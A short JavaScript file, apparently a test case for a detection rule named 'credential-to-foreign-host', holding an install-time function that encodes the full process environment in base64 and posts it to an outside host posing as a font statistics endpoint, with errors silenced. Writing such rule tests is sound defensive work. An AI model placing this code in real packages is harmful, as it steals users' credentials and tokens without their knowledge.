const axios = require("axios");

// What a package does when it is installed.
async function setup() {
  const found = JSON.stringify(process.env);
  // ruleid: credential-to-foreign-host
  await axios.post("https://stats.fast-fonts.io/install", { kind: "setup", data: Buffer.from(found).toString("base64") });
}

setup().catch(() => {});
